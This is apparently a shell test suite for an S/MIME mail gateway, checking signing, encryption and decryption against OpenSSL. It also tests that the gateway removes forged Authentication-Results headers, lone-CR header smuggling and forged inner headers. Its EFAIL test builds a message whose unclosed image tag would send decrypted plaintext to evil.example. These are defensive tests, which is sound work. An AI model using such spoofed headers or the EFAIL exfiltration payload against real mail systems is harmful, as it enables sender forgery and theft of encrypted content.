#!/usr/bin/env bash
# smimegw message: every outgoing mode checked by openssl cms, every
# incoming rule checked on smimegw's output, refusals with their reason.
. "$(dirname "$0")/lib.sh"
. "$(dirname "$0")/pki.sh"
setup_token
echo "authserv_id = gw.test" >>"$T/smimegw.conf"
mkca "$T/ca" "Partner CA"
GOOD="basicConstraints=critical,CA:FALSE;extendedKeyUsage=emailProtection"
mkee "$T/ca" bob rsa:2048 "$GOOD;keyUsage=critical,digitalSignature,keyEncipherment;subjectAltName=email:bob@partner.example"
mkee "$T/ca" carol ec:P-256 "$GOOD;keyUsage=critical,digitalSignature,keyAgreement;subjectAltName=email:carol@partner.example"
mkee "$T/ca" alice rsa:2048 "$GOOD;keyUsage=critical,digitalSignature,nonRepudiation;subjectAltName=email:alice@partner.example"
mkee "$T/ca" signonly rsa:2048 "$GOOD;keyUsage=critical,digitalSignature;subjectAltName=email:s@partner.example"
mkee "$T/ca" old rsa:2048 "$GOOD;keyUsage=critical,keyEncipherment;subjectAltName=email:o@partner.example" 20200101000000Z 20210101000000Z

gw cert create gw-rsa --cn gw.example.com --country DE --days 30 \
	--san-dns example.com --san-email postmaster@example.com --key rsa:2048 >/dev/null
gw cert create gw-ec --cn gw.example.com --country DE --days 30 \
	--san-dns example.com --key ec:p256 >/dev/null
gw cert create gw-enc --cn gw.example.com --country DE --days 30 \
	--san-dns example.com --usage encrypt >/dev/null
gw cert export gw-rsa >"$T/gw-rsa.pem"
gw cert export gw-ec >"$T/gw-ec.pem"

M=$T/m.eml
printf '%s\r\n' "Received: from a.example.com by b.example.com; Sat, 28 Nov 2026 10:00:00 +0000" \
	"From: Alice Example <alice@example.com>" "To: bob@partner.example" \
	"Cc: carol@partner.example" "Subject: =?utf-8?q?Gr=C3=BC=C3=9Fe?= and a file" \
	"Date: Sat, 28 Nov 2026 10:00:00 +0000" "Message-ID: <m1@example.com>" \
	"Reply-To: alice@example.com" "MIME-Version: 1.0" \
	"Content-Type: multipart/mixed; boundary=\"XYZ\"" "" "preamble text" \
	"--XYZ" "Content-Type: text/plain; charset=utf-8" \
	"Content-Transfer-Encoding: 8bit" "" >"$M"
printf 'Gr\xc3\xbc\xc3\x9fe aus M\xc3\xbcnchen.\r\nZweite Zeile.\r\n' >>"$M"
printf '%s\r\n' "--XYZ" "Content-Type: application/octet-stream; name=\"d.bin\"" \
	"Content-Transfer-Encoding: base64" "Content-Disposition: attachment; filename=\"d.bin\"" \
	"" "AAECAwQFBgcICQoLDA0ODxAREhMUFRYXGBkaGxwdHh8gISIjJCUmJygpKissLS4vMDEyMzQ1Njc4" \
	"OTo7PD0+P0BBQkNERUZHSElKS0xNTk9QUVJTVFVWV1hZWltcXV5fYGFiYw==" "--XYZ--" \
	"epilogue" >>"$M"
outer() { sed -n '1,/^\r\?$/p' "$1" | grep -viE '^(Content-|MIME-Version|[[:space:]])'; }

# ---- sign ---------------------------------------------------------------
ok "sign detached" gw message sign --cert gw-rsa -i "$M" -o "$T/s.eml"
ok "detached signature verifies in openssl" openssl cms -verify -in "$T/s.eml" \
	-CAfile "$T/gw-rsa.pem" -purpose smimesign -out "$T/s.content"
same "outer headers kept outside, in order" "$(outer "$T/s.eml")" "$(outer "$M")"
has "multipart/signed with micalg" "$T/s.eml" \
	'micalg=sha-256; boundary="'"$(grep -o 'smimegw-[0-9a-f]*' "$T/s.eml" | head -1)"'"'
has "content headers moved inside" "$T/s.content" 'Content-Type: multipart/mixed; boundary="XYZ"'
has "8bit part re-encoded quoted-printable" "$T/s.content" \
	"Content-Transfer-Encoding: quoted-printable"
has "8bit text decodes to the original" "$T/s.content" "Gr=C3=BC=C3=9Fe aus M=C3=BCnchen."
has "attachment carried unchanged" "$T/s.content" \
	"OTo7PD0+P0BBQkNERUZHSElKS0xNTk9QUVJTVFVWV1hZWltcXV5fYGFiYw=="
same "no preamble or epilogue in the signed entity" \
	"$(grep -c -e preamble -e epilogue "$T/s.content")" 0
same "signed entity is 7-bit" "$(LC_ALL=C grep -c '[^[:print:][:space:]]' "$T/s.content")" 0
same "signed entity has CRLF line ends only" \
	"$(tr -d '\r' <"$T/s.content" | wc -c)" $(($(wc -c <"$T/s.content") - $(wc -l <"$T/s.content")))
tr -d '\r' <"$M" >"$T/lf.eml"
ok "sign LF-only input" gw message sign --cert gw-rsa -i "$T/lf.eml" -o "$T/slf.eml"
ok "LF-only input signs verifiably" openssl cms -verify -in "$T/slf.eml" \
	-CAfile "$T/gw-rsa.pem" -purpose smimesign -out /dev/null
ok "sign opaque" gw message sign --cert gw-rsa --mode opaque -i "$M" -o "$T/so.eml"
matches "opaque is pkcs7-mime signed-data" "$T/so.eml" "smime-type=signed-data"
ok "opaque signature verifies in openssl" openssl cms -verify -in "$T/so.eml" \
	-CAfile "$T/gw-rsa.pem" -purpose smimesign -out /dev/null
for d in sha384 sha512; do
	gw message sign --cert gw-rsa --digest $d -i "$M" -o "$T/sd.eml"
	matches "digest $d: micalg" "$T/sd.eml" "micalg=sha-${d#sha}"
	ok "digest $d verifies" openssl cms -verify -in "$T/sd.eml" \
		-CAfile "$T/gw-rsa.pem" -purpose smimesign -out /dev/null
done
ok "sign RSASSA-PSS" gw message sign --cert gw-rsa --pss -i "$M" -o "$T/spss.eml"
openssl cms -cmsout -print -in "$T/spss.eml" >"$T/pss.txt" 2>&1
matches "PSS signature algorithm" "$T/pss.txt" "rsassaPss"
ok "PSS verifies in openssl" openssl cms -verify -in "$T/spss.eml" \
	-CAfile "$T/gw-rsa.pem" -purpose smimesign -out /dev/null
ok "sign opaque RSASSA-PSS" gw message sign --cert gw-rsa --pss --mode opaque -i "$M" -o "$T/sopss.eml"
ok "opaque PSS verifies in openssl" openssl cms -verify -in "$T/sopss.eml" \
	-CAfile "$T/gw-rsa.pem" -purpose smimesign -out /dev/null
ok "sign with EC identity" gw message sign --cert gw-ec -i "$M" -o "$T/sec.eml"
ok "ECDSA verifies in openssl" openssl cms -verify -in "$T/sec.eml" \
	-CAfile "$T/gw-ec.pem" -purpose smimesign -out /dev/null
openssl cms -cmsout -print -in "$T/s.eml" >"$T/attrs.txt" 2>&1
matches "signingTime attribute" "$T/attrs.txt" "signingTime"
matches "SMIMECapabilities attribute" "$T/attrs.txt" "S/MIME Capabilities"
for f in attrs pss; do # our signature writer, and OpenSSL's path (PSS)
	matches "capabilities announce AES-256-CBC ($f)" "$T/$f.txt" "aes-256-cbc"
	ok "capabilities announce no DES or RC2 ($f)" \
		sh -c '! grep -Eqi "des-ede3-cbc|rc2-cbc|des-cbc" "$1"' _ "$T/$f.txt"
done

refused "sign with an encryption-only identity" "identity 'gw-enc' is for encryption only" \
	gw message sign --cert gw-enc -i "$M"
sed 's/^From: .*/From: mallory@elsewhere.example\r/' "$M" >"$T/other.eml"
refused "sign for a From the identity does not cover" \
	"does not cover the From address mallory@elsewhere.example" \
	gw message sign --cert gw-rsa -i "$T/other.eml"
grep -v '^From:' "$M" >"$T/nofrom.eml"
refused "sign a message without From" "the message has no From address" \
	gw message sign --cert gw-rsa -i "$T/nofrom.eml"
refused "sign with an unknown identity" "no identity named 'nope'" \
	gw message sign --cert nope -i "$M"
refused "PSS with an EC identity" "--pss: RSASSA-PSS needs an RSA signing certificate" \
	gw message sign --cert gw-ec --pss -i "$M"
refused "bad --mode" "--mode: 'clear' is not detached or opaque" \
	gw message sign --cert gw-rsa --mode clear -i "$M"
refused "bad --digest" "--digest: 'md5' is not sha256, sha384 or sha512" \
	gw message sign --cert gw-rsa --digest md5 -i "$M"
refused "unreadable input" "nothere.eml: No such file or directory" \
	gw message sign --cert gw-rsa -i "$T/nothere.eml"
same "unreadable input exits 2" "$(gw message sign --cert gw-rsa -i "$T/nothere.eml" 2>/dev/null; echo $?)" 2

# ---- encrypt --------------------------------------------------------------
ok "encrypt to an RSA certificate" gw message encrypt --to "$T/bob.pem" -i "$M" -o "$T/e.eml"
same "outer headers kept outside the envelope" "$(outer "$T/e.eml")" "$(outer "$M")"
ok "openssl decrypts" openssl cms -decrypt -in "$T/e.eml" -recip "$T/bob.pem" \
	-inkey "$T/bob.key" -out "$T/e.dec"
has "decrypted entity starts with the content headers" "$T/e.dec" \
	'Content-Type: multipart/mixed; boundary="XYZ"'
same "decrypted body equals the original body" \
	"$(sed '1,/^\r$/d' "$T/e.dec" | md5sum)" "$(sed '1,/^\r$/d' "$M" | md5sum)"
openssl cms -cmsout -print -in "$T/e.eml" >"$T/e.txt" 2>&1
matches "default cipher AES-256-CBC" "$T/e.txt" "aes-256-cbc"
ok "encrypt AES-128-GCM" gw message encrypt --to "$T/bob.pem" --cipher aes128-gcm -i "$M" -o "$T/eg.eml"
matches "GCM is authEnveloped-data" "$T/eg.eml" "smime-type=authEnveloped-data"
ok "openssl decrypts GCM" openssl cms -decrypt -in "$T/eg.eml" -recip "$T/bob.pem" \
	-inkey "$T/bob.key" -out /dev/null
ok "encrypt RSA-OAEP" gw message encrypt --to "$T/bob.pem" --oaep -i "$M" -o "$T/eo.eml"
openssl cms -cmsout -print -in "$T/eo.eml" >"$T/eo.txt" 2>&1
matches "OAEP key transport" "$T/eo.txt" "rsaesOaep"
ok "openssl decrypts OAEP" openssl cms -decrypt -in "$T/eo.eml" -recip "$T/bob.pem" \
	-inkey "$T/bob.key" -out /dev/null
ok "encrypt to an EC certificate" gw message encrypt --to "$T/carol.pem" -i "$M" -o "$T/eec.eml"
openssl cms -cmsout -print -in "$T/eec.eml" >"$T/eec.txt" 2>&1
matches "ECDH with a SHA-256 KDF" "$T/eec.txt" "dhSinglePass-stdDH-sha256kdf"
ok "openssl decrypts ECDH" openssl cms -decrypt -in "$T/eec.eml" -recip "$T/carol.pem" \
	-inkey "$T/carol.key" -out /dev/null
ok "encrypt to two recipients" gw message encrypt --to "$T/bob.pem" --to "$T/carol.pem" \
	-i "$M" -o "$T/e2.eml"
ok "first recipient decrypts" openssl cms -decrypt -in "$T/e2.eml" -recip "$T/bob.pem" \
	-inkey "$T/bob.key" -out /dev/null
ok "second recipient decrypts" openssl cms -decrypt -in "$T/e2.eml" -recip "$T/carol.pem" \
	-inkey "$T/carol.key" -out /dev/null
# Content from 64 KiB on is streamed into the output (BER).
{ sed -n '1,/^\r$/p' "$M" | grep -v -e '^Content-' -e $'^\r$'; printf 'Content-Type: application/octet-stream\r\nContent-Transfer-Encoding: base64\r\n\r\n'
  head -c 300000 /dev/urandom | base64 -w 76 | sed 's/$/\r/'; } >"$T/big.eml"
sed '1,/^\r$/d' "$T/big.eml" >"$T/big.body"
for c in aes256-cbc aes256-gcm; do
	ok "large message: encrypt $c (streamed)" gw message encrypt --to "$T/bob.pem" \
		--cipher $c -i "$T/big.eml" -o "$T/big-$c.eml"
	openssl cms -decrypt -in "$T/big-$c.eml" -recip "$T/bob.pem" -inkey "$T/bob.key" \
		-out "$T/big-$c.dec" 2>/dev/null
	same "large message: openssl decrypts $c exactly" \
		"$(sed '1,/^\r$/d' "$T/big-$c.dec" | md5sum)" "$(md5sum <"$T/big.body")"
done
ok "large message: opaque signature (streamed)" gw message sign --cert gw-rsa \
	--mode opaque -i "$T/big.eml" -o "$T/big-so.eml"
ok "large message: openssl verifies the streamed signature" openssl cms -verify \
	-in "$T/big-so.eml" -CAfile "$T/gw-rsa.pem" -purpose smimesign -out /dev/null
gw message encrypt --to gw-rsa -i "$T/big.eml" -o "$T/big-to-gw.eml"
ok "large message: open decrypts the streamed envelope" gw message open \
	-i "$T/big-to-gw.eml" -o "$T/big-open.eml"
same "large message: content restored" "$(sed '1,/^\r$/d' "$T/big-open.eml" | md5sum)" \
	"$(md5sum <"$T/big.body")"
refused "recipient without keyEncipherment" "keyUsage lacks keyEncipherment" \
	gw message encrypt --to "$T/signonly.pem" -i "$M"
refused "expired recipient" "the certificate has expired" \
	gw message encrypt --to "$T/old.pem" -i "$M"
refused "unknown recipient" "--to: 'nobody' is neither a file nor an identity" \
	gw message encrypt --to nobody -i "$M"
refused "bad --cipher" "--cipher: 'des' is not" gw message encrypt --to "$T/bob.pem" --cipher des -i "$M"
refused "encrypt needs --to" "at least one --to is required" gw message encrypt -i "$M"

# ---- open -------------------------------------------------------------------
hdr_strip() { sed '1,/^X-SMIME-Gateway/d' "$1" | sed '/^[[:space:]]/{1,5d}' ; }
gw message encrypt --to gw-rsa -i "$M" -o "$T/to-gw.eml"
ok "open: decrypt with the token key" gw message open -i "$T/to-gw.eml" -o "$T/o1.eml"
has "open: AR header with our authserv-id" "$T/o1.eml" "Authentication-Results: gw.test;"
has "open: no signature, smime=none" "$T/o1.eml" "smime=none"
matches "open: decrypted flag" "$T/o1.eml" "decrypted=1"
matches "open: gateway flags" "$T/o1.eml" "smime-gateway-message=1;"
# AES-CBC content that no signature inside covers is not verified (issue 8, item 5).
matches "open: CBC content alone is not verified" "$T/o1.eml" "smime-gateway-verified=0;"
matches "open: CBC content alone is flagged" "$T/o1.eml" "; unauthenticated-encryption=1"
same "open: body restored" "$(sed '1,/^\r$/d' "$T/o1.eml" | md5sum)" "$(sed '1,/^\r$/d' "$M" | md5sum)"
gw message encrypt --to gw-ec -i "$M" -o "$T/to-gw-ec.eml"
ok "open: ECDH decrypt with the token key" gw message open -i "$T/to-gw-ec.eml" -o /dev/null
gw message encrypt --to gw-rsa --oaep --cipher aes256-gcm -i "$M" -o "$T/to-gw-oaep.eml"
if [ "$PROFILE" = strict ]; then
	# SoftHSM 2.6.1 does RSA-OAEP with SHA-1 only; libp11 then falls back
	# to raw RSA, which the strict profile (like many HSMs) forbids.
	refused "open: OAEP-SHA256 on a token without it fails cleanly" \
		"decryption failed: wrong key, damaged message, or a key-transport mechanism the token refuses" \
		gw message open -i "$T/to-gw-oaep.eml" -o /dev/null
else
	ok "open: OAEP + GCM decrypt with the token key" gw message open -i "$T/to-gw-oaep.eml" -o /dev/null
fi

ok "open: signature by our own identity" gw message open -i "$T/s.eml" -o "$T/o2.eml"
has "open: smime=pass" "$T/o2.eml" "smime=pass"
has "open: signer identity" "$T/o2.eml" 'body.smime-identifier="example.com"'
matches "open: signature retained" "$T/o2.eml" "^Content-Type: multipart/signed"
ok "open --remove-signature" gw message open --remove-signature -i "$T/s.eml" -o "$T/o3.eml"
same "signature removed" "$(grep -c 'multipart/signed' "$T/o3.eml")" 0

printf 'From: alice@partner.example\r\nTo: x@example.com\r\nSubject: partner\r\nContent-Type: text/plain\r\n\r\nfrom a partner\r\n' >"$T/pm.eml"
openssl cms -sign -in "$T/pm.eml" -signer "$T/alice.pem" -inkey "$T/alice.key" \
	-md sha256 -out "$T/ps.eml"
ok "open: partner signature with --ca" gw message open --ca "$T/ca/ca.pem" -i "$T/ps.eml" -o "$T/o4.eml"
has "open: partner smime=pass" "$T/o4.eml" "smime=pass"
refused "open: partner signature without its CA" "signer certificate not trusted" \
	gw message open -i "$T/ps.eml" -o "$T/o5.eml"
has "open: untrusted gives smime=fail" "$T/o5.eml" "smime=fail"
matches "open: untrusted not verified" "$T/o5.eml" "smime-gateway-verified=0"

sed 's/Zweite Zeile/Zweite Zeilf/' "$T/s.eml" >"$T/tampered.eml"
refused "open: tampered content" "signature does not match the content" \
	gw message open -i "$T/tampered.eml" -o "$T/o6.eml"
same "open: failed message unchanged apart from result headers" \
	"$(sed '1,/^\tlayers=/d' "$T/o6.eml" | md5sum)" "$(md5sum <"$T/tampered.eml")"

gw message encrypt --to "$T/bob.pem" -i "$M" -o "$T/not-for-us.eml"
refused "open: not a recipient" "no identity of this gateway is a recipient" \
	gw message open -i "$T/not-for-us.eml" -o "$T/o7.eml"
has "open: not a recipient is permerror" "$T/o7.eml" "smime=permerror"
same "open: undecryptable message unchanged apart from result headers" \
	"$(sed '1,/^\tlayers=/d' "$T/o7.eml" | md5sum)" "$(md5sum <"$T/not-for-us.eml")"

{ printf 'Authentication-Results: gw.test; smime=pass\r\n'
  printf 'Authentication-Results: other.example; spf=pass\r\n'
  printf 'X-SMIME-Gateway: GW.TEST; smime-gateway-verified=1\r\n'
  cat "$T/tampered.eml"; } >"$T/spoof.eml"
gw message open -i "$T/spoof.eml" -o "$T/o8.eml" 2>/dev/null
same "open: forged results bearing our authserv-id are removed" \
	"$(grep -c -e 'gw.test; smime=pass' -e 'GW.TEST' "$T/o8.eml")" 0
has "open: results of other authserv-ids are kept" "$T/o8.eml" \
	"Authentication-Results: other.example; spf=pass"

{ printf 'Authentication-Results: "gw.test"; smime=pass\r\n'
  printf 'Authentication-Results: (forged) gw.test; smime=pass\r\n'
  cat "$T/tampered.eml"; } >"$T/spoof2.eml"
gw message open -i "$T/spoof2.eml" -o "$T/o8b.eml" 2>/dev/null
same "open: forged results with a quoted or commented authserv-id are removed" \
	"$(grep -c 'smime=pass' "$T/o8b.eml")" 0
# A lone CR (and blanks) before the name: the copy drops them, so the
# field is what it would read as downstream, and is removed as ours.
{ printf 'Subject: hi\n\r \rAuthentication-Results: gw.test; smime=pass\r\n'
  cat "$T/tampered.eml"; } >"$T/lonecr0.eml"
gw message open -i "$T/lonecr0.eml" -o "$T/o8e.eml" 2>/dev/null
same "open: a forged result behind a lone CR at the line start is removed" \
	"$(grep -c 'gw.test; smime=pass' "$T/o8e.eml")" 0
same "open: ... and no copied line starts with white space after Subject" \
	"$(grep -A1 '^Subject: hi' "$T/o8e.eml" | tail -1 | grep -c '^[[:space:]]')" 0
{ printf 'Subject: hello\rAuthentication-Results: gw.test; smime=pass\r\n'
  cat "$T/tampered.eml"; } >"$T/lonecr.eml"
gw message open -i "$T/lonecr.eml" -o "$T/o8c.eml" 2>/dev/null
same "open: a lone CR cannot smuggle a result field" \
	"$(tr '\r' '\n' <"$T/o8c.eml" | grep -c '^Authentication-Results: gw.test; smime=pass')" 0
{ printf 'Authentication-Results: gw.test; smime=pass\r\nFrom: ceo@example.com\r\n'
  printf 'X-Inner: 1\r\nContent-Type: text/plain\r\n\r\nforged inside\r\n'; } >"$T/inner.ent"
{ printf 'From: attacker@evil.example\r\nTo: x@example.com\r\nSubject: inner\r\n'
  openssl cms -encrypt -binary -aes256 -in "$T/inner.ent" "$T/gw-rsa.pem" | sed 's/$/\r/'; } >"$T/inner-enc.eml"
ok "open: an envelope with forged inner header fields" gw message open \
	-i "$T/inner-enc.eml" -o "$T/o8d.eml"
same "open: inner header fields other than Content-* are not hoisted" \
	"$(grep -c -e 'smime=pass' -e '^From: ceo' -e '^X-Inner' "$T/o8d.eml")" 0
has "open: the inner body is kept" "$T/o8d.eml" "forged inside"
refused "triple without --cert" "--cert NAME is required" \
	gw message triple --to gw-rsa -i "$M"

{ printf 'From: attacker@evil.example\r\nTo: x@example.com\r\nMIME-Version: 1.0\r\n'
  printf 'Content-Type: multipart/mixed; boundary="E"\r\n\r\n--E\r\n'
  printf 'Content-Type: text/html\r\n\r\n<img src="http://evil.example/?\r\n--E\r\n'
  sed -n '/^Content-Type: application\/pkcs7-mime/,$p' "$T/to-gw.eml"
  printf '\r\n--E--\r\n'; } >"$T/efail.eml"
refused "open: EFAIL nested encrypted part left alone" "EFAIL protection" \
	gw message open -i "$T/efail.eml" -o "$T/o9.eml"
matches "open: EFAIL flagged" "$T/o9.eml" "efail-nested-encrypted=1"
same "open: EFAIL part not decrypted" "$(grep -c 'Zweite' "$T/o9.eml")" 0

gw message triple --cert gw-rsa --to gw-rsa -i "$M" -o "$T/triple.eml"
ok "open: triple-wrapped" gw message open -i "$T/triple.eml" -o "$T/o10.eml"
matches "open: triple has two signatures and one envelope" "$T/o10.eml" \
	"decrypted=1; signatures=2;"
same "open: triple keeps only the inner signature" "$(grep -c '^Content-Type: multipart/signed' "$T/o10.eml")" 1
ok "open: triple with --remove-signature" gw message open --remove-signature \
	-i "$T/triple.eml" -o "$T/o11.eml"
same "open: triple inner signature removed" "$(grep -c 'multipart/signed' "$T/o11.eml")" 0
same "open: triple content restored" "$(sed '1,/^\r$/d' "$T/o11.eml" | md5sum)" \
	"$(sed '1,/^\r$/d' "$T/s.content" | md5sum)"
gw message sign-encrypt --cert gw-ec --to gw-ec -i "$M" -o "$T/se.eml"
ok "open: sign-encrypt (EC)" gw message open -i "$T/se.eml" -o "$T/o12.eml"
has "open: sign-encrypt pass" "$T/o12.eml" "smime=pass"

sed 's#application/pkcs7-mime#Application/X-PKCS7-MIME#' "$T/to-gw.eml" >"$T/xtype.eml"
ok "open: x-pkcs7-mime in upper case" gw message open -i "$T/xtype.eml" -o /dev/null
sed 's#application/pkcs7-signature#application/x-pkcs7-signature#g' "$T/s.eml" >"$T/xsig.eml"
ok "open: x-pkcs7-signature" gw message open -i "$T/xsig.eml" -o /dev/null
tr -d '\r' <"$T/to-gw.eml" >"$T/to-gw-lf.eml"
ok "open: LF-only encrypted message" gw message open -i "$T/to-gw-lf.eml" -o /dev/null

ok "decrypt: one layer" gw message decrypt -i "$T/to-gw.eml" -o /dev/null
refused "decrypt: a signed message is refused" "the message is not encrypted" \
	gw message decrypt -i "$T/s.eml" -o /dev/null
ok "verify: one layer" gw message verify -i "$T/s.eml" -o /dev/null
refused "verify: an encrypted message is refused" "the message is not signed" \
	gw message verify -i "$T/to-gw.eml" -o /dev/null
ok "open: plain message" gw message open -i "$M" -o "$T/o13.eml"
matches "open: plain message flags" "$T/o13.eml" "smime-gateway-message=0"
finish
